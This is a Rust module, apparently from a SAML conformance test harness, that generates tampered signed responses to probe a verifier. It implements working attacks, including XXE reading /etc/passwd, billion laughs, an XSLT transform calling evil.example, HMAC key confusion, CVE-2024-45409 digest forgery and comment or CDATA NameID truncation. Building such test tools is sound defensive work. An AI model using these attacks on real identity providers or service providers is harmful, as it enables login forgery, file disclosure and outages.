//! Attacks on the text of a response the IdP has already signed, aimed at the verifier's XML
//! parser, canonicalisation and algorithm handling rather than at which element is read (that is
//! [`crate::attacks`]). Each variant edits the captured, signed message the way an attacker with a
//! text editor would: a DOCTYPE in front, a CDATA section or comment inside signed text, a forged
//! DigestValue outside SignedInfo, a SignedInfo rewritten to another algorithm or transform.
//!
//! One variant, [`Tampering::XpathFilterExcludesSubject`], needs the IdP's cooperation: the
//! IdP signs with an XPath filter transform that leaves the Subject out of the digest (a signer
//! misconfiguration), then the attacker rewrites the NameID; the IdP's signature still verifies
//! with any verifier that runs XPath transforms.
//!
//! Sources are cited on each variant; the SP's answer to each is in `sp/docs/known-attacks.md`.

use base64::Engine as _;
use libxml::tree::c14n::{CanonicalizationMode, CanonicalizationOptions};
use libxml::tree::{Document, Node, SaveOptions};
use serde::{Deserialize, Serialize};

use crate::attacks::{ATTACKER_NAME_ID, TRUNCATED_SUFFIX};
use crate::xml::{ASSERTION_NS, DSIG_NS};

/// The XPath 1.0 transform of XML-DSig (§6.6.3).
pub const XPATH_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
/// The XSLT transform of XML-DSig (§6.6.5).
pub const XSLT_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
/// HMAC-SHA256 (RFC 4051 §2.2.2): a symmetric SignatureMethod.
pub const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
/// A SignatureMethod URI no specification defines.
pub const UNKNOWN_SIGNATURE_METHOD: &str = "urn:samlconf:attack:signature-method:none";
/// Where the XXE variant points its external entity.
pub const XXE_SYSTEM_ID: &str = "file:///etc/passwd";
/// What the prefix-rebinding variant binds `xs` to.
pub const REBOUND_XS_NAMESPACE: &str = "urn:samlconf:attack:not-xml-schema";
/// The relative namespace URI of the void-canonicalisation variant.
pub const RELATIVE_NAMESPACE_URI: &str = "void";

/// An attack on the signed response's text, applied after signing (knob `tampering`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Tampering {
    /// XXE: a DOCTYPE declaring an external entity (`SYSTEM "file:///etc/passwd"`) in front of
    /// the signed response, and the NameID's text replaced by a reference to it. A parser that
    /// resolves external entities leaks the file (or reaches the network) before any signature
    /// is checked (OWASP XXE; CWE-611).
    DoctypeExternalEntity,
    /// Billion laughs: a DOCTYPE of ten nested internal entities, each ten of the previous one,
    /// and the NameID's text replaced by the outermost: 10^9 characters for a parser that expands
    /// entities (CWE-776).
    DoctypeEntityExpansion,
    /// An internal entity in signed text: the DOCTYPE declares `tail` as [`TRUNCATED_SUFFIX`] and
    /// the NameID `alice@example.com.evil.example` becomes `alice@example.com&tail;`. After
    /// expansion the canonical form (and so the digest) is unchanged; a reader that does not
    /// expand entities reads `alice@example.com`.
    EntityInSignedText,
    /// A CDATA section in signed text: the NameID `alice@example.com.evil.example` becomes
    /// `alice@example.com<![CDATA[.evil.example]]>`. C14N turns CDATA into text, so the
    /// signature still verifies; a reader of the first text node truncates the identity
    /// (the CDATA twin of CVE-2017-11427..11430).
    CdataInSignedText,
    /// Comment truncation in an attribute: every AttributeValue containing [`TRUNCATED_SUFFIX`]
    /// gets an empty comment before it, e.g. the group `admins<!---->.evil.example`
    /// (CVE-2017-11427..11430 applied to attributes, as Duo Labs described).
    CommentInAttributeValue,
    /// CVE-2024-45409 (ruby-saml): the NameID rewritten to `attacker@evil.example` and a
    /// `ds:DigestValue` holding the correct digest of that edited assertion placed in a new
    /// `samlp:Extensions`, ahead of the real one in document order. The IdP's SignedInfo and
    /// SignatureValue are untouched; a verifier that finds "the" DigestValue with a
    /// document-wide XPath compares against the forged one.
    DigestValueOutsideSignedInfo,
    /// The SignatureMethod replaced by [`UNKNOWN_SIGNATURE_METHOD`]: a verifier that maps unknown
    /// URIs to a default, or skips what it cannot check, must instead refuse.
    UnknownSignatureMethod,
    /// Key confusion (CVE-2018-7644, xmlseclibs): the NameID rewritten to
    /// `attacker@evil.example`, the DigestValue recomputed, the SignatureMethod changed to
    /// HMAC-SHA256 and the SignatureValue computed as HMAC keyed with the IdP's public
    /// certificate (its PEM text, as metadata publishes it), KeyInfo removed. A verifier that lets
    /// the message pick the algorithm uses the public certificate as an HMAC secret.
    HmacKeyedWithIdpCertificate,
    /// An XSLT transform added to the Reference's Transforms (its stylesheet fetches a URL with
    /// `document()`): a verifier that runs the transforms it finds executes the attacker's
    /// stylesheet while computing the digest, before any signature is checked (XML-DSig Best
    /// Practices §2.1.2).
    XsltTransform,
    /// The IdP signs with an XPath filter transform that leaves `saml:Subject` out of the digest;
    /// the attacker then rewrites the NameID to `attacker@evil.example`. The IdP's signature
    /// still verifies with any verifier that runs XPath transforms (XML-DSig Best Practices
    /// §2.1.1: "only what is signed is secure").
    XpathFilterExcludesSubject,
    /// Void canonicalisation (PortSwigger, "The Fragile Lock", Black Hat Europe 2025): a relative
    /// namespace URI (`xmlns:void="void"`) declared on the signed assertion and the NameID
    /// rewritten to `attacker@evil.example`. libxml2's C14N refuses relative namespace URIs; a
    /// verifier that turns the failure into an empty canonical form compares digests of nothing.
    RelativeNamespaceUri,
    /// Namespace prefix rebinding: `xmlns:xs` on every AttributeValue rebound from XML Schema to
    /// [`REBOUND_XS_NAMESPACE`]. Exclusive C14N signs only visibly used prefixes, and `xs` is used
    /// only inside the value of `xsi:type="xs:string"`, so the IdP's signature still verifies
    /// while the type now names something else (an IdP that signs with
    /// `InclusiveNamespaces PrefixList="xs"` would have covered it).
    RebindUnsignedPrefix,
    /// CVE-2025-25291 (ruby-saml, DOCTYPE handling): a DOCTYPE whose internal subset holds, in
    /// an entity's literal value, the text `]>` followed by an evil assertion (NameID
    /// `attacker@evil.example`). A DTD-aware parser sees an entity value; a naive scanner that ends
    /// the DOCTYPE at the first `]>` sees the evil assertion as document content.
    DoctypeHidesMarkupInLiteral,
    /// Rebinding a prefix outside the signed subtree: `xmlns:xs` bound to
    /// [`REBOUND_XS_NAMESPACE`] on the Response, which no signature covers. Harmless unless the
    /// assertion's signature names `xs` in `InclusiveNamespaces PrefixList` (knob
    /// `inclusive_namespaces`): exclusive C14N then renders the in-scope binding, from outside,
    /// into the digest, and the signature no longer verifies.
    RebindPrefixOnResponse,
    /// Deep nesting: [`DEEP_NESTING_LEVELS`] nested unqualified elements in a new
    /// `samlp:Extensions` (about 70 KB), for a parser or tree walk that recurses once per level
    /// (a stack overflow, CWE-674).
    DeepNesting,
    /// A huge KeyInfo: the assertion signature's `ds:X509Certificate` replaced by
    /// [`HUGE_KEY_INFO_BYTES`] of base64, unsigned (KeyInfo is outside SignedInfo), for a
    /// verifier that decodes and parses every certificate in the message before anything else.
    HugeKeyInfo,
}

/// How deep [`Tampering::DeepNesting`] nests.
pub const DEEP_NESTING_LEVELS: usize = 10_000;
/// How much base64 [`Tampering::HugeKeyInfo`] puts in KeyInfo: 1 MiB.
pub const HUGE_KEY_INFO_BYTES: usize = 1024 * 1024;

impl Tampering {
    /// Every variant, for tests and listings.
    pub const ALL: [Tampering; 16] = [
        Tampering::DoctypeExternalEntity,
        Tampering::DoctypeEntityExpansion,
        Tampering::EntityInSignedText,
        Tampering::CdataInSignedText,
        Tampering::CommentInAttributeValue,
        Tampering::DigestValueOutsideSignedInfo,
        Tampering::UnknownSignatureMethod,
        Tampering::HmacKeyedWithIdpCertificate,
        Tampering::XsltTransform,
        Tampering::XpathFilterExcludesSubject,
        Tampering::RelativeNamespaceUri,
        Tampering::RebindUnsignedPrefix,
        Tampering::DoctypeHidesMarkupInLiteral,
        Tampering::RebindPrefixOnResponse,
        Tampering::DeepNesting,
        Tampering::HugeKeyInfo,
    ];
}

/// Why a tampering could not be applied (knobs the attack cannot work on, or a minter bug).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum TamperError {
    /// The text the attack edits is not in the signed response.
    #[error("{attack:?} needs {what} in the signed response")]
    Missing {
        /// The attack.
        attack: Tampering,
        /// What it looked for.
        what: &'static str,
    },
    /// The signed XML did not parse, or libxml refused an edit.
    #[error("{0}")]
    Xml(&'static str),
    /// OpenSSL refused the HMAC key or computation.
    #[error("HMAC failed: {0}")]
    Hmac(String),
}

/// Before signing: for [`Tampering::XpathFilterExcludesSubject`], the assertion's signature
/// template gets an XPath filter in place of the enveloped-signature transform. Every other
/// variant leaves the unsigned XML as it is.
pub fn before_signing(unsigned: &str, attack: Tampering) -> Result<String, TamperError> {
    if attack != Tampering::XpathFilterExcludesSubject {
        return Ok(unsigned.to_owned());
    }
    let enveloped =
        r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#;
    let assertion_at = unsigned
        .find("<saml:Assertion")
        .ok_or(TamperError::Missing {
            attack,
            what: "a saml:Assertion",
        })?;
    let at = unsigned[assertion_at..]
        .find(enveloped)
        .map(|i| assertion_at + i)
        .ok_or(TamperError::Missing {
            attack,
            what: "the assertion's enveloped-signature transform",
        })?;
    let filter = format!(
        r#"<ds:Transform Algorithm="{XPATH_TRANSFORM}"><ds:XPath xmlns:saml="{ASSERTION_NS}">not(ancestor-or-self::ds:Signature) and not(ancestor-or-self::saml:Subject)</ds:XPath></ds:Transform>"#
    );
    let mut out = unsigned.to_owned();
    out.replace_range(at..at + enveloped.len(), &filter);
    Ok(out)
}

/// After signing: applies `attack` to the signed response `xml`. `idp_cert_pem` is the IdP's
/// public certificate (the HMAC key of [`Tampering::HmacKeyedWithIdpCertificate`]).
pub fn apply(xml: &str, attack: Tampering, idp_cert_pem: &str) -> Result<String, TamperError> {
    let missing = |what| TamperError::Missing { attack, what };
    match attack {
        Tampering::DoctypeExternalEntity => {
            let xml = replace_name_id(xml, attack, |_| "&xxe;".to_owned())?;
            Ok(with_doctype(
                &xml,
                &format!(r#"<!ENTITY xxe SYSTEM "{XXE_SYSTEM_ID}">"#),
            ))
        }
        Tampering::DoctypeEntityExpansion => {
            let mut subset = String::from(r#"<!ENTITY lol0 "lol">"#);
            for level in 1..=9 {
                let previous = format!("&lol{};", level - 1).repeat(10);
                subset.push_str(&format!(r#"<!ENTITY lol{level} "{previous}">"#));
            }
            let xml = replace_name_id(xml, attack, |_| "&lol9;".to_owned())?;
            Ok(with_doctype(&xml, &subset))
        }
        Tampering::EntityInSignedText => {
            let xml = split_name_id(xml, attack, |head| format!("{head}&tail;"))?;
            Ok(with_doctype(
                &xml,
                &format!(r#"<!ENTITY tail "{TRUNCATED_SUFFIX}">"#),
            ))
        }
        Tampering::CdataInSignedText => split_name_id(xml, attack, |head| {
            format!("{head}<![CDATA[{TRUNCATED_SUFFIX}]]>")
        }),
        Tampering::CommentInAttributeValue => {
            let mut out = String::with_capacity(xml.len() + 16);
            let mut rest = xml;
            let mut found = false;
            while let Some(start) = rest.find("<saml:AttributeValue") {
                let end = rest[start..]
                    .find("</saml:AttributeValue>")
                    .map(|e| start + e)
                    .ok_or(missing("a closed saml:AttributeValue"))?;
                let value = &rest[start..end];
                out.push_str(&rest[..start]);
                match value.rfind(TRUNCATED_SUFFIX) {
                    Some(at) if !value[..at].ends_with('>') => {
                        found = true;
                        out.push_str(&value[..at]);
                        out.push_str("<!---->");
                        out.push_str(&value[at..]);
                    }
                    _ => out.push_str(value),
                }
                rest = &rest[end..];
            }
            out.push_str(rest);
            if !found {
                return Err(missing("an AttributeValue containing `.evil.example`"));
            }
            Ok(out)
        }
        Tampering::DigestValueOutsideSignedInfo => {
            let xml = replace_name_id(xml, attack, |_| ATTACKER_NAME_ID.to_owned())?;
            let digest = assertion_digest(&xml)?;
            let status = xml.find("<samlp:Status").ok_or(missing("samlp:Status"))?;
            let mut out = xml.clone();
            out.insert_str(
                status,
                &format!(
                    r#"<samlp:Extensions><ds:DigestValue xmlns:ds="{DSIG_NS}">{digest}</ds:DigestValue></samlp:Extensions>"#
                ),
            );
            Ok(out)
        }
        Tampering::UnknownSignatureMethod => {
            replace_signature_method(xml, attack, UNKNOWN_SIGNATURE_METHOD)
        }
        Tampering::HmacKeyedWithIdpCertificate => hmac_forgery(xml, idp_cert_pem),
        Tampering::XsltTransform => {
            let transforms = "<ds:Transforms>";
            let at = xml.find(transforms).ok_or(missing("ds:Transforms"))? + transforms.len();
            let mut out = xml.to_owned();
            out.insert_str(
                at,
                &format!(
                    r#"<ds:Transform Algorithm="{XSLT_TRANSFORM}"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('https://evil.example/xslt-ran')"/></xsl:template></xsl:stylesheet></ds:Transform>"#
                ),
            );
            Ok(out)
        }
        Tampering::XpathFilterExcludesSubject => {
            if !xml.contains(XPATH_TRANSFORM) {
                return Err(missing("the XPath filter the IdP signed with"));
            }
            replace_name_id(xml, attack, |_| ATTACKER_NAME_ID.to_owned())
        }
        Tampering::RebindUnsignedPrefix => {
            let schema = r#"xmlns:xs="http://www.w3.org/2001/XMLSchema""#;
            if !xml.contains(schema) {
                return Err(missing("an xmlns:xs declaration"));
            }
            Ok(xml.replace(schema, &format!(r#"xmlns:xs="{REBOUND_XS_NAMESPACE}""#)))
        }
        Tampering::DoctypeHidesMarkupInLiteral => {
            let evil = format!(
                r#"]><saml:Assertion xmlns:saml="{ASSERTION_NS}" ID="_shadow" Version="2.0"><saml:Subject><saml:NameID>{ATTACKER_NAME_ID}</saml:NameID></saml:Subject></saml:Assertion>"#
            );
            Ok(with_doctype(xml, &format!("<!ENTITY shadow '{evil}'>")))
        }
        Tampering::DeepNesting => {
            let status = "<samlp:Status>";
            let at = xml.find(status).ok_or(missing("a samlp:Status"))?;
            let nest = format!(
                "<samlp:Extensions>{}{}</samlp:Extensions>",
                "<x>".repeat(DEEP_NESTING_LEVELS),
                "</x>".repeat(DEEP_NESTING_LEVELS)
            );
            let mut out = xml.to_owned();
            out.insert_str(at, &nest);
            Ok(out)
        }
        Tampering::HugeKeyInfo => {
            let open = "<ds:X509Certificate>";
            let start = xml.find(open).ok_or(missing("a ds:X509Certificate"))? + open.len();
            let end = start
                + xml[start..]
                    .find("</ds:X509Certificate>")
                    .ok_or(missing("a ds:X509Certificate end"))?;
            let mut out = xml.to_owned();
            out.replace_range(start..end, &"A".repeat(HUGE_KEY_INFO_BYTES));
            Ok(out)
        }
        Tampering::RebindPrefixOnResponse => {
            let open = "<samlp:Response";
            let at = xml.find(open).ok_or(missing("a samlp:Response"))? + open.len();
            let mut out = xml.to_owned();
            out.insert_str(at, &format!(r#" xmlns:xs="{REBOUND_XS_NAMESPACE}""#));
            Ok(out)
        }
        Tampering::RelativeNamespaceUri => {
            let xml = replace_name_id(xml, attack, |_| ATTACKER_NAME_ID.to_owned())?;
            let open = "<saml:Assertion";
            let at = xml.find(open).ok_or(missing("a saml:Assertion"))? + open.len();
            let mut out = xml.clone();
            out.insert_str(at, &format!(r#" xmlns:void="{RELATIVE_NAMESPACE_URI}""#));
            Ok(out)
        }
    }
}

/// `xml` with a DOCTYPE whose internal subset is `subset`, right before the root element.
fn with_doctype(xml: &str, subset: &str) -> String {
    let root = xml.find("<samlp:Response").unwrap_or(0);
    let mut out = xml.to_owned();
    out.insert_str(root, &format!("<!DOCTYPE samlp:Response [{subset}]>\n"));
    out
}

/// The range of the NameID's text in `xml`.
fn name_id_text(xml: &str, attack: Tampering) -> Result<std::ops::Range<usize>, TamperError> {
    let missing = TamperError::Missing {
        attack,
        what: "a saml:NameID with text",
    };
    let open = xml.find("<saml:NameID").ok_or(missing.clone())?;
    let start = xml[open..]
        .find('>')
        .map(|i| open + i + 1)
        .ok_or(missing.clone())?;
    let end = xml[start..]
        .find("</saml:NameID>")
        .map(|i| start + i)
        .ok_or(missing)?;
    Ok(start..end)
}

fn replace_name_id(
    xml: &str,
    attack: Tampering,
    with: impl FnOnce(&str) -> String,
) -> Result<String, TamperError> {
    let range = name_id_text(xml, attack)?;
    let mut out = xml.to_owned();
    let text = with(&xml[range.clone()]);
    out.replace_range(range, &text);
    Ok(out)
}

/// Rewrites the NameID `head` + [`TRUNCATED_SUFFIX`] as `with(head)`.
fn split_name_id(
    xml: &str,
    attack: Tampering,
    with: impl FnOnce(&str) -> String,
) -> Result<String, TamperError> {
    let range = name_id_text(xml, attack)?;
    let text = &xml[range.clone()];
    let head = text
        .strip_suffix(TRUNCATED_SUFFIX)
        .filter(|h| !h.is_empty())
        .ok_or(TamperError::Missing {
            attack,
            what: "a NameID ending in `.evil.example`",
        })?;
    let mut out = xml.to_owned();
    out.replace_range(range, &with(head));
    Ok(out)
}

fn replace_signature_method(
    xml: &str,
    attack: Tampering,
    uri: &str,
) -> Result<String, TamperError> {
    let open = "<ds:SignatureMethod Algorithm=\"";
    let start = xml.find(open).ok_or(TamperError::Missing {
        attack,
        what: "a ds:SignatureMethod",
    })? + open.len();
    let end = xml[start..]
        .find('"')
        .map(|i| start + i)
        .ok_or(TamperError::Xml("unterminated SignatureMethod Algorithm"))?;
    let mut out = xml.to_owned();
    out.replace_range(start..end, uri);
    Ok(out)
}

fn parse(xml: &str) -> Result<Document, TamperError> {
    crate::dsig::parse(xml).map_err(|_| TamperError::Xml("the signed XML does not parse"))
}

fn exclusive() -> CanonicalizationOptions {
    CanonicalizationOptions {
        mode: CanonicalizationMode::ExclusiveCanonical1_0,
        with_comments: false,
        inclusive_ns_prefixes: Vec::new(),
    }
}

/// Base64 SHA-256 of the exclusive canonical form of the Response's Assertion without its
/// `ds:Signature`: what the enveloped-signature and exc-c14n transforms give a verifier.
pub fn assertion_digest(xml: &str) -> Result<String, TamperError> {
    let doc = parse(xml)?;
    let mut assertion = assertion(&doc)?;
    if let Some(mut signature) = child(&assertion, DSIG_NS, "Signature") {
        signature.unlink_node();
        // Unlinked and owned by nothing else: freed when this wrapper drops.
        signature.set_rust_owned();
    }
    let canonical = assertion
        .canonicalize(exclusive())
        .map_err(|()| TamperError::Xml("libxml could not canonicalise the assertion"))?;
    Ok(
        base64::engine::general_purpose::STANDARD
            .encode(openssl::sha::sha256(canonical.as_bytes())),
    )
}

/// [`Tampering::HmacKeyedWithIdpCertificate`].
fn hmac_forgery(xml: &str, idp_cert_pem: &str) -> Result<String, TamperError> {
    let attack = Tampering::HmacKeyedWithIdpCertificate;
    let xml = replace_name_id(xml, attack, |_| ATTACKER_NAME_ID.to_owned())?;
    let digest = assertion_digest(&xml)?;
    let xml = replace_signature_method(&xml, attack, HMAC_SHA256)?;
    let doc = parse(&xml)?;
    let assertion = assertion(&doc)?;
    let signature =
        child(&assertion, DSIG_NS, "Signature").ok_or(TamperError::Xml("no ds:Signature"))?;
    let mut signed_info =
        child(&signature, DSIG_NS, "SignedInfo").ok_or(TamperError::Xml("no ds:SignedInfo"))?;
    let mut digest_value = child(&signed_info, DSIG_NS, "Reference")
        .and_then(|r| child(&r, DSIG_NS, "DigestValue"))
        .ok_or(TamperError::Xml("no ds:DigestValue"))?;
    digest_value
        .set_content(&digest)
        .map_err(|_| TamperError::Xml("libxml refused to set the DigestValue"))?;
    let canonical = signed_info
        .canonicalize(exclusive())
        .map_err(|()| TamperError::Xml("libxml could not canonicalise SignedInfo"))?;
    let mac = hmac_sha256(idp_cert_pem.as_bytes(), canonical.as_bytes())?;
    let mut value = child(&signature, DSIG_NS, "SignatureValue")
        .ok_or(TamperError::Xml("no ds:SignatureValue"))?;
    value
        .set_content(&base64::engine::general_purpose::STANDARD.encode(mac))
        .map_err(|_| TamperError::Xml("libxml refused to set the SignatureValue"))?;
    if let Some(mut key_info) = child(&signature, DSIG_NS, "KeyInfo") {
        key_info.unlink_node();
        key_info.set_rust_owned();
    }
    Ok(doc.to_string_with_options(SaveOptions::default()))
}

/// HMAC-SHA256 of `data` keyed with `key`.
pub fn hmac_sha256(key: &[u8], data: &[u8]) -> Result<Vec<u8>, TamperError> {
    let err = |e: openssl::error::ErrorStack| TamperError::Hmac(e.to_string());
    let key = openssl::pkey::PKey::hmac(key).map_err(err)?;
    let mut signer =
        openssl::sign::Signer::new(openssl::hash::MessageDigest::sha256(), &key).map_err(err)?;
    signer.update(data).map_err(err)?;
    signer.sign_to_vec().map_err(err)
}

fn assertion(doc: &Document) -> Result<Node, TamperError> {
    let root = doc
        .get_root_element()
        .ok_or(TamperError::Xml("the signed XML has no root"))?;
    child(&root, ASSERTION_NS, "Assertion").ok_or(TamperError::Xml("no saml:Assertion"))
}

fn child(parent: &Node, namespace: &str, name: &str) -> Option<Node> {
    parent.get_child_elements().into_iter().find(|c| {
        c.get_name() == name
            && c.get_namespace()
                .is_some_and(|ns| ns.get_href() == namespace)
    })
}
